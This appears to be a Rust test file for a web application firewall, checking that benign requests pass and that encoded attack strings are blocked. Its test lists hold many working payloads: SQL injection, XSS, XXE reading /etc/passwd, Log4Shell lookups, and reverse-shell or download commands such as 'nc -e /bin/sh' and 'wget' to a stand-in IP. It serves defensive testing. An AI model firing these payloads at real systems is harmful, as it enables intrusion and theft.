use super::*;
use crate::config::Config;
use crate::decode::apply;

fn filter_from(json: &str) -> Filter {
    match Config::from_json(json.as_bytes()) {
        Ok(config) => config.filter,
        Err(error) => panic!("{error}"),
    }
}

fn filter() -> Filter {
    filter_from("{}")
}

fn request(path: &str) -> Vec<(String, Vec<u8>)> {
    [
        (":method", "GET"),
        (":path", path),
        (":authority", "example.com"),
        ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
        ("accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
    ]
    .iter()
    .map(|(name, value)| (name.to_string(), value.as_bytes().to_vec()))
    .collect()
}

fn with_body(method: &str, content_type: &str, body: &str) -> Vec<(String, Vec<u8>)> {
    let mut headers = request("/api/items");
    headers[0].1 = method.as_bytes().to_vec();
    headers.push(("content-type".to_string(), content_type.as_bytes().to_vec()));
    headers.push((
        "content-length".to_string(),
        body.len().to_string().into_bytes(),
    ));
    headers
}

fn assess(filter: &Filter, headers: &[(String, Vec<u8>)], body: &str) -> Assessment {
    let mut assessment = filter.inspect_headers(headers);
    if !body.is_empty() {
        filter.inspect_body(&mut assessment, headers, body.as_bytes());
    }
    assessment
}

fn blocked(headers: &[(String, Vec<u8>)], body: &str) -> bool {
    let filter = filter();
    filter.verdict(&assess(&filter, headers, body)).is_some()
}

#[test]
fn ordinary_requests_pass() {
    let paths = [
        "/",
        "/search?q=select+a+plan",
        "/books?author=O%27Reilly&q=wget+vs+curl",
        "/r?next=https%3A%2F%2Fexample.com%2Fa%3Fb%3D1",
        "/contact?email=jane.doe%2Btag%40example.com",
        "/search?q=%E6%9D%B1%E4%BA%AC%E9%83%BD",
        "/search?q=don%27t+stop+me+now",
        "/users?sort=id&order=desc",
        "/inventory?columns=hostname",
        "/help?topic=pwd",
        "/search?q=%22red+wine%22+OR+%22white+wine%22",
    ];
    for path in paths {
        let assessment = assess(&filter(), &request(path), "");
        assert_eq!(assessment.detections, vec![], "path {path:?}");
    }
}

#[test]
fn ordinary_bodies_pass() {
    let cases = [
        (
            "PUT",
            "application/json",
            r#"{"title":"Learning SQL: select a plan","publisher":"O'Reilly"}"#,
        ),
        (
            "PATCH",
            "application/json",
            r#"{"note":"wget vs curl","email":"a.b@example.org"}"#,
        ),
        (
            "POST",
            "application/json",
            "{\"body\":\"```js\\nconst add = (a, b) => a + b;\\n```\"}",
        ),
        (
            "POST",
            "application/x-www-form-urlencoded",
            "message=Use+%60git+rebase+-i+HEAD~3%60+to+squash",
        ),
        (
            "POST",
            "application/json",
            r#"{"text":"Ça va? Très bien, merci!"}"#,
        ),
        (
            "POST",
            "application/json",
            r#"{"code":"if (a < b && c > d) { return x; }"}"#,
        ),
        (
            "PUT",
            "application/json",
            r#"{"snippet":"if (!user || !user.id) return null;"}"#,
        ),
    ];
    for (method, content_type, body) in cases {
        assert!(
            !blocked(&with_body(method, content_type, body), body),
            "{body}"
        );
    }
}

#[test]
fn attack_in_query_is_blocked_with_label() {
    let filter = filter();
    let assessment = assess(&filter, &request("/s?page=2&q=1%27%20or%201%3D1--"), "");
    assert!(filter.verdict(&assessment).is_some());
    let labels: Vec<&str> = assessment
        .detections
        .iter()
        .map(|d| d.target.as_str())
        .collect();
    assert!(labels.contains(&"query.q"), "{labels:?}");
}

#[test]
fn score_sums_distinct_rules() {
    let filter = filter();
    let assessment = assess(
        &filter,
        &request("/s?q=1%27%20union%20select%20password%20from%20users--"),
        "",
    );
    let ids = assessment.rule_ids();
    assert!(ids.len() >= 2, "{ids:?}");
    let expected: u32 = assessment
        .detections
        .iter()
        .map(|d| d.rule.severity.anomaly_points())
        .sum();
    assert_eq!(assessment.score, expected);
}

#[test]
fn query_is_not_joined() {
    let assessment = assess(&filter(), &request("/s?a=1+union&b=select+2"), "");
    assert_eq!(assessment.detections, vec![]);
}

#[test]
fn json_body_values_are_inspected() {
    let body = r#"{"user":{"bio":"<script>alert(1)</script>"}}"#;
    let filter = filter();
    let assessment = assess(&filter, &with_body("POST", "application/json", body), body);
    assert!(filter.verdict(&assessment).is_some());
    assert_eq!(
        assessment.primary().map(|d| d.target.as_str()),
        Some("json.user.bio")
    );
}

const INJECTION: &str = "1' UNION SELECT password FROM users--";

fn json_rules(body: &str) -> Vec<&'static str> {
    let filter = filter();
    let headers = with_body("POST", "application/json", body);
    assess(&filter, &headers, body).rule_ids()
}

fn nested(depth: usize, value: &str) -> String {
    format!(
        r#"{{"q":{}"{value}"{}}}"#,
        "[".repeat(depth),
        "]".repeat(depth)
    )
}

#[test]
fn deep_json_injection_is_blocked() {
    for depth in [31, 40, 200] {
        let body = nested(depth, INJECTION);
        let rules = json_rules(&body);
        assert!(
            rules.iter().any(|id| id.starts_with("sqli-")),
            "depth {depth}: {rules:?}"
        );
    }
}

#[test]
fn deep_json_scores_as_anomaly() {
    let body = nested(40, "plain words");
    let filter = filter();
    let headers = with_body("POST", "application/json", &body);
    let assessment = assess(&filter, &headers, &body);
    assert_eq!(assessment.rule_ids(), vec!["limit-json-depth"]);
    assert!(filter.verdict(&assessment).is_some());
}

#[test]
fn moderately_nested_json_passes() {
    let body = nested(20, "plain words");
    assert_eq!(json_rules(&body), Vec::<&str>::new());
}

#[test]
fn json_rejected_by_strict_parser_is_inspected() {
    let bodies = [
        format!("\u{feff}{{\"q\": \"{INJECTION}\"}}"),
        format!(r#"{{"x":"\ud800","q":"{INJECTION}"}}"#),
        format!(r#"{{"q":"{INJECTION}","q":"ok"}}"#),
    ];
    for body in bodies {
        let rules = json_rules(&body);
        assert!(
            rules.iter().any(|id| id.starts_with("sqli-")),
            "{body}: {rules:?}"
        );
    }
}

#[test]
fn form_bodies_under_other_types_are_inspected() {
    let body = "q=1%27+UNION+SELECT+username%2Cpassword+FROM+users--+-";
    for content_type in ["application/json", "text/plain", "application/octet-stream"] {
        assert!(
            blocked(&with_body("POST", content_type, body), body),
            "{content_type}"
        );
    }
    let body = "comment=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E";
    assert!(blocked(&with_body("POST", "application/json", body), body));
}

#[test]
fn lenient_json_lookalikes_pass() {
    let bodies = [
        "\u{feff}{\"q\": \"union of select members\"}",
        r#"{"x":"\ud800","q":"don't stop"}"#,
        r#"{"q":"first","q":"second"}"#,
    ];
    for body in bodies {
        assert_eq!(json_rules(body), Vec::<&str>::new(), "{body}");
    }
}

fn xml_blocked(body: &str) -> bool {
    blocked(&with_body("POST", "application/xml", body), body)
}

#[test]
fn xml_cdata_and_comments_are_inspected() {
    let bodies = [
        format!("<a><q><![CDATA[{INJECTION}]]></q></a>"),
        "<a><q><![CDATA[${jndi:ldap://x/a}]]></q></a>".to_string(),
        "<a><q>1' UNI<!-- x -->ON SELECT password FROM users--</q></a>".to_string(),
    ];
    for body in bodies {
        assert!(xml_blocked(&body), "{body}");
    }
}

#[test]
fn xml_external_entities_are_blocked() {
    let bodies = [
        r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#,
        r#"<!DOCTYPE foo [ <!ENTITY % dtd SYSTEM "http://203.0.113.5/e.dtd"> %dtd; ]><foo/>"#,
        r#"<!DOCTYPE foo PUBLIC "-//x//y" "http://203.0.113.5/e.dtd"><foo/>"#,
        r#"<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>"#,
        r#"<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>"#,
    ];
    for body in bodies {
        assert!(xml_blocked(body), "{body}");
    }
    // The same declarations in a JSON field or a plain-text body.
    let json = r#"{"doc":"<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/shadow\">]><a>&e;</a>"}"#;
    assert!(blocked(&with_body("POST", "application/json", json), json));
    let text = "<!DOCTYPE a [<!ENTITY e SYSTEM \"expect://id\">]><a>&e;</a>";
    assert!(blocked(&with_body("POST", "text/plain", text), text));
}

#[test]
fn xml_declarations_without_entities_pass() {
    let bodies = [
        r#"<?xml version="1.0"?><!DOCTYPE note><note><to>Tove</to></note>"#,
        r#"<!DOCTYPE html><html><body><p>Tom &amp; Jerry</p></body></html>"#,
        r#"<!DOCTYPE r [<!ENTITY company "Example Corp">]><r>&company;</r>"#,
    ];
    for body in bodies {
        assert!(!xml_blocked(body), "{body}");
    }
}

#[test]
fn xml_cdata_lookalikes_pass() {
    let bodies = [
        "<a><q><![CDATA[Tom & Jerry <3 cartoons]]></q></a>",
        "<a><!-- generated --><q>select a plan</q></a>",
    ];
    for body in bodies {
        assert!(!xml_blocked(body), "{body}");
    }
}

#[test]
fn multipart_file_name_is_inspected() {
    let body = "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\nx\r\n--B--\r\n";
    assert!(blocked(
        &with_body("POST", "multipart/form-data; boundary=B", body),
        body
    ));
}

#[test]
fn sensitive_values_are_redacted() {
    let mut headers = request("/login?password=%27%20or%201%3D1--");
    headers.push(("cookie".to_string(), b"pref=%3Cscript%3Ealert(1)".to_vec()));
    let assessment = assess(&filter(), &headers, "");
    for detection in &assessment.detections {
        if detection.target.starts_with("query.password") || detection.target.starts_with("cookie.")
        {
            assert_eq!(detection.excerpt, REDACTED);
        }
    }
    assert!(assessment
        .detections
        .iter()
        .any(|d| d.target == "cookie.pref"));
}

#[test]
fn evasions_are_decoded() {
    let paths = [
        "/files?name=..%252f..%252f..%252fetc%252fpasswd",
        "/files?name=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
        "/s?q=1%20UnIoN%20SeLeCt%201,2",
        "/s?q=1%20un/**/ion%20sel/**/ect%201",
        "/run?cmd=;c%27a%27t%20/et%5Cc/pa%22ss%22wd",
        "/run?cmd=;cat$IFS/etc/passwd",
    ];
    for path in paths {
        assert!(blocked(&request(path), ""), "{path}");
    }
}

#[test]
fn paranoia_level_selects_rules() {
    let level1 = filter();
    let level2 = filter_from(r#"{"filter": {"paranoia_level": 2}}"#);
    let above = level1
        .rules()
        .iter()
        .filter(|rule| rule.paranoia > 1)
        .count();
    assert!(above > 0);
    let path = "/s?x=http://2852039166/";
    let count = |filter: &Filter| assess(filter, &request(path), "").detections.len();
    assert!(count(&level2) >= count(&level1));
}

#[test]
fn threshold_and_monitor_mode() {
    let lenient = filter_from(r#"{"filter": {"anomaly_threshold": 1000}}"#);
    let assessment = assess(
        &lenient,
        &request("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        "",
    );
    assert!(assessment.score > 0);
    assert_eq!(lenient.verdict(&assessment), None);
    let monitor = filter_from(r#"{"filter": {"mode": "monitor"}}"#);
    let assessment = assess(
        &monitor,
        &request("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        "",
    );
    assert_eq!(monitor.verdict(&assessment), Some(Verdict::Flag));
}

#[test]
fn exclusion_by_rule_target_and_path() {
    let path = "/cms/save?html=%3Cscript%3Ealert(1)%3C/script%3E";
    let excluded = filter_from(
        r#"{"filter": {"exclusions": [{"rules": ["xss-*"], "targets": ["query.html"], "paths": ["/cms/*"]}]}}"#,
    );
    let ids = assess(&excluded, &request(path), "").rule_ids();
    assert!(ids.iter().all(|id| !id.starts_with("xss-")), "{ids:?}");
    let other_path = assess(&excluded, &request("/blog/save?html=%3Cscript%3E"), "").rule_ids();
    assert!(
        other_path.iter().any(|id| id.starts_with("xss-")),
        "{other_path:?}"
    );
}

#[test]
fn custom_rule_matches() {
    let filter = filter_from(
        r#"{"filter": {"rules": [{"id": "custom-internal", "targets": ["path"], "transforms": ["url_decode", "lowercase"], "regex": "^/internal/"}]}}"#,
    );
    let assessment = assess(&filter, &request("/%49nternal/admin"), "");
    assert_eq!(assessment.rule_ids(), vec!["custom-internal"]);
    assert!(filter.verdict(&assessment).is_some());
}

#[test]
fn invalid_settings_are_rejected() {
    let cases = [
        (
            r#"{"filter": {"paranoia_level": 5}}"#,
            "filter.paranoia_level: ",
        ),
        (
            r#"{"filter": {"anomaly_threshold": 0}}"#,
            "filter.anomaly_threshold: ",
        ),
        (
            r#"{"filter": {"rules": [{"id": "x", "targets": ["path"], "regex": "("}]}}"#,
            "filter.rules[0].regex: ",
        ),
        (
            r#"{"filter": {"rules": [{"id": "x", "targets": ["path"]}]}}"#,
            "filter.rules[0]: ",
        ),
        (
            r#"{"filter": {"rules": [{"id": "sqli-union-select", "targets": ["path"], "regex": "a"}]}}"#,
            "filter.rules: ",
        ),
    ];
    for (json, expected) in cases {
        let message = match Config::from_json(json.as_bytes()) {
            Ok(_) => panic!("{json} was accepted"),
            Err(error) => error.to_string(),
        };
        assert!(message.starts_with(expected), "{json}: {message}");
    }
}

#[test]
fn request_limits() {
    let mut headers = request("/");
    headers[0].1 = b"TRACE".to_vec();
    assert!(assess(&filter(), &headers, "")
        .rule_ids()
        .contains(&"protocol-method-not-allowed"));
    let long = format!("/{}", "a".repeat(8192));
    assert!(assess(&filter(), &request(&long), "")
        .rule_ids()
        .contains(&"limit-uri-length"));
    let at_limit = format!("/{}", "a".repeat(8191));
    assert!(!assess(&filter(), &request(&at_limit), "")
        .rule_ids()
        .contains(&"limit-uri-length"));
    // 256 query arguments are one too many; 300 JSON keys are not counted.
    let query: Vec<String> = (0..256).map(|i| format!("p{i}=1")).collect();
    assert!(
        assess(&filter(), &request(&format!("/?{}", query.join("&"))), "")
            .rule_ids()
            .contains(&"limit-arg-count")
    );
    let events: Vec<String> = (0..100)
        .map(|i| format!(r#"{{"event":"view","page":"/p/{i}","ms":{i}}}"#))
        .collect();
    let batch = format!("[{}]", events.join(","));
    let ids = assess(
        &filter(),
        &with_body("POST", "application/json", &batch),
        &batch,
    )
    .rule_ids();
    assert!(!ids.contains(&"limit-arg-count"), "{ids:?}");
    // A 40 KB text field passes; the default value limit is 64 KiB.
    let post = format!(
        r#"{{"title":"Notes","body":"{}"}}"#,
        "lorem ipsum ".repeat(3400)
    );
    assert!(!blocked(
        &with_body("POST", "application/json", &post),
        &post
    ));
    let mut smuggled = with_body("POST", "application/json", "{}");
    smuggled.push(("transfer-encoding".to_string(), b"chunked".to_vec()));
    assert!(assess(&filter(), &smuggled, "")
        .rule_ids()
        .contains(&"protocol-smuggling-cl-te"));
}

#[test]
fn non_utf8_values_do_not_panic() {
    let mut headers = request("/\u{0}");
    headers[1].1 = b"/\xff\xfe?\xc3=\x80%".to_vec();
    headers.push(("x-binary".to_string(), b"\x00\xff<script\xff>".to_vec()));
    assert!(blocked(&headers, ""));
}

/// Times every rule over a value of `size` bytes that passes all prefilters.
fn time_rules(filter: &Filter, size: usize) -> std::time::Duration {
    let unit = "select 'a' from x where a=1 or <script> ${jndi ../etc; cat /bin/ ";
    let value: String = unit
        .repeat(size / unit.len() + 1)
        .chars()
        .take(size)
        .collect();
    let target = Target {
        kind: crate::rules::TargetKind::ArgValue,
        name: "q".to_string(),
        label: "query.q".into(),
        value: value.into_bytes(),
        sensitive: false,
    };
    let started = std::time::Instant::now();
    let texts: Vec<String> = filter
        .chains
        .iter()
        .map(|chain| to_text(&apply(chain, &target.value)))
        .collect();
    for rule in filter.rules() {
        let _ = rule.find(&texts[rule.chain]);
    }
    started.elapsed()
}

/// Percent-encodes every byte that is not an ASCII letter or digit.
fn encode(value: &str) -> String {
    value
        .bytes()
        .map(|byte| {
            if byte.is_ascii_alphanumeric() {
                (byte as char).to_string()
            } else {
                format!("%{byte:02X}")
            }
        })
        .collect()
}

/// Returns the ids of the rules that match `value` sent as the query
/// argument `q`.
fn query_rules(value: &str) -> Vec<&'static str> {
    assess(
        &filter(),
        &request(&format!("/search?q={}", encode(value))),
        "",
    )
    .rule_ids()
}

fn query_blocked(value: &str) -> bool {
    blocked(&request(&format!("/search?q={}", encode(value))), "")
}

fn assert_all_blocked(family: &str, values: &[&str]) {
    for value in values {
        assert!(query_blocked(value), "{family} attack passed: {value:?}");
    }
}

fn assert_all_pass(family: &str, values: &[&str]) {
    for value in values {
        assert_eq!(
            query_rules(value),
            Vec::<&str>::new(),
            "{family} lookalike matched: {value:?}"
        );
    }
}

#[test]
fn sql_injection_is_blocked() {
    assert_all_blocked(
        "sqli",
        &[
            "1' or '1'='1",
            "1 UNION/**/SELECT password FROM users",
            "-1 UN/**/ION SEL/**/ECT 1,2,3",
            "'; DROP TABLE users; --",
            "1; delete from users",
            "x'; delete from accounts where 1=1",
            "1 AND SLEEP(5)",
            "admin'--",
            "1' aNd 1=1 -- -",
            "x' AND 1=(SELECT COUNT(*) FROM accounts); --",
            "1\u{2018} OR \u{2018}1\u{2018}=\u{2018}1",
            "' uNiOn SeLeCt null, version() #",
            "1;waitfor delay '0:0:5'--",
            "') or ('a'='a",
            "1 or 2>1",
            "'||(select extractvalue(1,concat(0x7e,user())))||'",
            "1 and (select 1 from pg_sleep(5))",
            "x' and current_user::int=1--",
            "; SET @old=@@sql_mode",
            "admin' or 'x",
            "x\" or \"y",
            "x\" ' or true-- ",
            "a' and 'b",
        ],
    );
}

#[test]
fn sql_lookalikes_pass() {
    assert_all_pass(
        "sqli",
        &[
            "select a plan",
            "delete from cart",
            "how to delete from my wishlist",
            "O'Reilly",
            "drop me a line",
            "rock and roll",
            "Tom and Jerry",
            "what's new in 2024",
            "union station to the airport",
            "\"select\" is a button",
            "insert coin",
            "update my address",
            "don't delete from the list",
            "best of 2024 - top 10",
            "\"red\" or \"blue\"",
            "'large' and 'small' sizes",
            "if (a < b && c > d) { return x; }",
        ],
    );
}

#[test]
fn cross_site_scripting_is_blocked() {
    assert_all_blocked(
        "xss",
        &[
            "<script>alert(1)</script>",
            "<ScRiPt >alert(document.cookie)</sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "javascript:alert(1)",
            "jav&#x09;ascript:alert(1)",
            "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
            "\\u003cscript\\u003ealert(1)",
            "\"><iframe src=//evil.example>",
            "(![]+[])[+!+[]]",
            "document/**/.cookie",
            "window[\"alert\"](1)",
            "+ADw-script+AD4-alert(1)",
        ],
    );
    // Double URL encoding of `<script>`.
    assert!(blocked(&request("/search?q=%253Cscript%253Ealert(1)"), ""));
}

#[test]
fn markup_lookalikes_pass() {
    assert_all_pass(
        "xss",
        &[
            "I <3 cats",
            "a < b and c > d",
            "onboarding checklist",
            "**bold** and `code` in markdown",
            "JavaScript tutorial for beginners",
            "the document is on the window sill",
        ],
    );
}

#[test]
fn unix_command_injection_is_blocked() {
    assert_all_blocked(
        "cmdi",
        &[
            ";cat /etc/passwd",
            "| id",
            "$(whoami)",
            "`uname -a`",
            "x;c'a't /etc/passwd",
            "x;c\\at /etc/passwd",
            "x;\"c\"a\"t\" /etc/hosts",
            ";cat${IFS}/etc/passwd",
            ";cat$IFS/etc/passwd",
            "{cat,/etc/passwd}",
            "/???/??t /etc/passwd",
            "x; sh -c 'id'",
            ":(){ :|:& };:",
            "() { :; }; /bin/bash -c id",
            "una$$me -a",
            "x && wget http://203.0.113.9/x.sh",
            "127.0.0.1; nc -e /bin/sh 203.0.113.9 4444",
            "{,ifconfig}",
            "a=id;$a",
            "whoami",
            "id;",
        ],
    );
}

#[test]
fn windows_command_injection_is_blocked() {
    assert_all_blocked(
        "cmdi-windows",
        &[
            "& ping -n 3 127.0.0.1",
            "| type c:\\windows\\win.ini",
            "x & c^m^d /c dir",
            "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
            "for /f %i in (a.txt) do echo %i",
            "if not defined X (",
            "IF \"%~1\"==\"/?\" goto help",
            "%COMSPEC% /c whoami",
        ],
    );
}

#[test]
fn command_lookalikes_pass() {
    assert_all_pass(
        "cmdi",
        &[
            "wget vs curl",
            "dogs; cat people",
            "12 Rue de l'\u{c9}glise; Apt 3",
            "a very apt remark",
            "cat videos",
            "time to eat",
            "ping me tomorrow",
            "Windows 11 for gamers",
            "if you can",
            "for sale in (Boston)",
            "alias names",
            "trap music",
        ],
    );
}

#[test]
fn code_injection_is_blocked() {
    assert_all_blocked(
        "code",
        &[
            "<?php system($_GET['c']); ?>",
            "system('id')",
            "$_GET[cmd]",
            "${'x'}",
            "$f/*c*/()",
            "allow_url_include=1",
            "[php]echo 1;[/php]",
            "${jndi:ldap://203.0.113.9/a}",
            "${${lower:j}ndi:${lower:l}dap://x.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
            "java.lang.Runtime.getRuntime().exec('id')",
            "java.lang.Integer",
            "[\"java.util.HashMap\", {}]",
            "new java.io.FileInputStream(\"/etc/shadow\")",
            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
            "{{7*7}}",
            "_$$ND_FUNC$$_function(){require('child_process').exec('id')}",
            "require('child_process').exec('id')",
        ],
    );
}

#[test]
fn code_lookalikes_pass() {
    assert_all_pass(
        "code",
        &[
            "price $5",
            "PHP tutorial for beginners",
            "$100 budget",
            "Java tutorial",
            "java.lang.NullPointerException fix",
            "why does java.util.List not compile",
            "{ \"a\": 1 }",
            "mustache {{ name }} template",
        ],
    );
}

#[test]
fn path_traversal_is_blocked() {
    assert_all_blocked(
        "lfi",
        &[
            "../../etc/passwd",
            "....//....//etc/passwd",
            "..\\..\\windows\\win.ini",
            "/proc/self/environ",
            "C:\\Windows\\System32\\drivers\\etc\\hosts",
        ],
    );
    let encoded = [
        "/file?name=..%2f..%2fetc%2fpasswd",
        "/file?name=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "/file?name=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
        "/static/..%c0%af..%c0%afetc/passwd",
    ];
    for path in encoded {
        assert!(blocked(&request(path), ""), "traversal passed: {path:?}");
    }
    assert!(blocked(&request("/.git/config"), ""));
    assert!(blocked(&request("/backup.sql.gz"), ""));
    assert!(!blocked(&request("/.well-known/security.txt"), ""));
}

fn path_rules(path: &str) -> Vec<&'static str> {
    assess(&filter(), &request(path), "").rule_ids()
}

#[test]
fn include_parameter_script_url_is_blocked() {
    let attacks = [
        "/index.php?page=http://evil.example/shell.txt",
        "/index.php?template=https://evil.example/x.php?cmd=id",
        "/view?file=%5C%5C203.0.113.9%5Cshare%5Cx",
        "/index.php?include=https://evil.example/",
    ];
    for path in attacks {
        assert!(blocked(&request(path), ""), "{path}");
    }
    let ordinary = [
        "/index.php?page=about",
        "/go?url=https://example.com/index.php",
        "/index.php?page=https://example.com/docs/",
        "/view?file=reports/2024.txt",
        "/index.php?template=invoice",
    ];
    for path in ordinary {
        assert_eq!(path_rules(path), Vec::<&str>::new(), "{path}");
    }
}

#[test]
fn sql_subquery_and_evasions_are_blocked() {
    assert_all_blocked(
        "sqli",
        &[
            "1 in ( select 1 )",
            "if(7423=7423,1,0)",
            "1.e(ascii(user))",
            "name LIKE '",
            "'{\"a\":1}' -> '$.a'",
            "x=;set @a=1",
            "x= and uid!=(",
            "\" waitfor+delay '0:0:5'",
            "admin@example.com\";",
        ],
    );
    assert_all_pass(
        "sqli",
        &[
            "Version 1.e is out",
            "I like it",
            "options (select all)",
            "if you can",
            "price: 5 (in stock)",
        ],
    );
}

#[test]
fn separator_led_commands_are_blocked() {
    assert_all_blocked(
        "cmdi",
        &[
            ";ls -la /tmp",
            "|| id -u",
            ";\n.databases",
            "cd /tmp;wget example.com",
            "cat <<<'x'",
            "v=u;cu$v\\rl example.com",
            ";at 2:00 \"echo test\"",
        ],
    );
    assert_all_pass(
        "cmdi",
        &[
            "; -)",
            "| pipe dreams",
            "cd player; great sound",
            "x=1; cost in $ dollars",
            "<<<<<<< HEAD",
        ],
    );
}

#[test]
fn remote_inclusion_and_ssrf_are_blocked() {
    assert_all_blocked(
        "rfi-ssrf",
        &[
            "http://203.0.113.9/shell.txt?",
            "php://filter/convert.base64-encode/resource=index.php",
            "ftp://files.example/x.php",
            "http://169.254.169.254/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://2852039166/",
            "http://0x7f000001/",
            "gopher://127.0.0.1:6379/_INFO",
            "http:127.0.0.1",
        ],
    );
    assert_all_pass(
        "rfi-ssrf",
        &[
            "https://example.com/a?b=1",
            "see https://docs.example.org/guide",
            "jane.doe+tag@example.com",
        ],
    );
}

#[test]
fn protocol_attacks_are_blocked() {
    assert!(blocked(
        &request("/search?q=x%0d%0aSet-Cookie:%20session=attacker"),
        ""
    ));
    assert!(blocked(
        &request("/r?to=%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Length:%200"),
        ""
    ));
    let mut scanner = request("/");
    scanner[3].1 = b"sqlmap/1.7.2#stable (https://sqlmap.org)".to_vec();
    assert!(blocked(&scanner, ""));
    assert!(blocked(&request("/login?jsessionid=ABC123"), ""));
    assert!(query_blocked("val)|(uid=*"));
    assert!(blocked(&request("/uploads/shell.php%00.jpg"), ""));
    for name in ["X-Original-URL", "x-rewrite-url", "x_original_url"] {
        let mut headers = request("/");
        headers.push((name.to_string(), b"/admin".to_vec()));
        assert!(blocked(&headers, ""), "{name}");
    }
}

#[test]
fn nosql_and_orm_operators_are_blocked() {
    assert!(blocked(&request("/users?name[$ne]=x"), ""));
    assert!(blocked(
        &request("/users?owner__profile__password__startswith=a"),
        ""
    ));
    let headers = with_body("POST", "application/json", "");
    assert!(blocked(&headers, r#"{"user": {"$where": "sleep(100)"}}"#));
    assert!(!blocked(
        &headers,
        r#"{"$schema": "https://json-schema.org/draft/2020-12/schema"}"#
    ));
}

#[test]
fn ordinary_api_traffic_passes() {
    let cases = [
        (
            "PATCH",
            "application/json",
            r#"{"bio":"I write SQL: select, insert, update. Also C++ and O'Reilly books.","tags":["wget","curl"]}"#,
        ),
        (
            "PUT",
            "application/json",
            r#"{"snippet":"fn main() { println!(\"hi\"); }","lang":"rust"}"#,
        ),
        (
            "POST",
            "application/json",
            r##"{"md":"# Title\n\n- item one\n- item two\n\n`code` and **bold**","name":"Zoë Ångström"}"##,
        ),
        (
            "POST",
            "application/x-www-form-urlencoded",
            "comment=Drop+me+a+line+at+jane%40example.com&next=https%3A%2F%2Fexample.com%2Fthanks",
        ),
    ];
    for (method, content_type, body) in cases {
        let headers = with_body(method, content_type, body);
        let assessment = assess(&filter(), &headers, body);
        assert_eq!(assessment.rule_ids(), Vec::<&str>::new(), "body {body:?}");
    }
    let mut jwt = request("/api/me");
    jwt.push((
        "authorization".to_string(),
        b"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
            .to_vec(),
    ));
    jwt.push((
        "cookie".to_string(),
        format!("session={}; theme=dark", "a1B2c3D4".repeat(200)).into_bytes(),
    ));
    assert_eq!(assess(&filter(), &jwt, "").rule_ids(), Vec::<&str>::new());
}

#[test]
fn rules_scale_linearly_from_one_to_two_mib() {
    let filter = filter_from(r#"{"filter": {"paranoia_level": 4}}"#);
    let one = (0..2)
        .map(|_| time_rules(&filter, 1024 * 1024))
        .min()
        .unwrap_or_default();
    let two = time_rules(&filter, 2 * 1024 * 1024);
    // Linear time gives a ratio near 2, quadratic time one near 4.
    let ratio = two.as_secs_f64() / one.as_secs_f64().max(1e-9);
    assert!(
        ratio < 3.2,
        "2 MiB took {two:?}, 1 MiB took {one:?}, ratio {ratio:.2}"
    );
}

/// Attack values of every rule family, for checking that the literal gate
/// lets each regex match through.
const GATE_SAMPLES: &[&str] = &[
    "../../etc/passwd",
    "..%2f..%2fwindows/win.ini",
    "http://10.0.0.1/shell.txt?",
    "php://filter/convert.base64-encode/resource=index",
    ";cat /etc/passwd",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "$(curl http://x.y/z.sh)",
    "`id`",
    "/b?n/c?t /e?c/p?sswd",
    "cmd.exe /c whoami",
    "powershell -enc SQBFAFgA",
    "a=1; b=$a; x${a}y",
    "() { :; }; /bin/bash -c id",
    "sh -c 'id'",
    "<?php system($_GET['c']); ?>",
    "eval(base64_decode('x'))",
    "$_SERVER['HTTP_HOST']",
    "$f='sys'.'tem'; $f('id')",
    "allow_url_include=1",
    "O:8:\"stdClass\":1:{s:1:\"a\";}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "rO0ABXNyABFqYXZh",
    "${T(java.lang.Runtime).getRuntime()}",
    "${jndi:ldap://evil.example/a}",
    "__proto__[admin]=1",
    "require('child_process').exec('id')",
    "{{7*7}}",
    "{% import os %}",
    "http://169.254.169.254/latest/meta-data/",
    "http://2130706433/",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "<svg/onload=alert(1)>",
    "+ADw-script+AD4-",
    "expression(alert(1))",
    "' or '1'='1",
    "1 union select null,version()--",
    "1; drop table users--",
    "admin'--",
    "1 and sleep(5)",
    "' and extractvalue(1,concat(0x7e,user()))--",
    "select * from information_schema.tables",
    "1' order by 3--",
    "waitfor delay '0:0:5'",
    "'||(select 1)||'",
    "1 and 1=1",
    "x')::text",
    "%0d%0aSet-Cookie: a=b",
    "GET / HTTP/1.1",
    "*)(uid=*))(|(uid=*",
    "document.cookie=\"a=b\"",
    "nikto",
    "../../../.git/config",
    "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
    "<!ENTITY % p SYSTEM 'http://x/e.dtd'>",
    "<!ENTITY b \"&a;&a;&a;\">",
    "<xi:include href=\"/etc/passwd\" parse=\"text\"/>",
];

#[test]
fn literal_gate_keeps_every_regex_match() {
    let filter = filter_from(r#"{"filter": {"paranoia_level": 4}}"#);
    for sample in GATE_SAMPLES {
        for (index, rule) in filter.rules().iter().enumerate() {
            let text = to_text(&apply(&filter.chains[rule.chain], sample.as_bytes()));
            if rule.find(&text).is_none() {
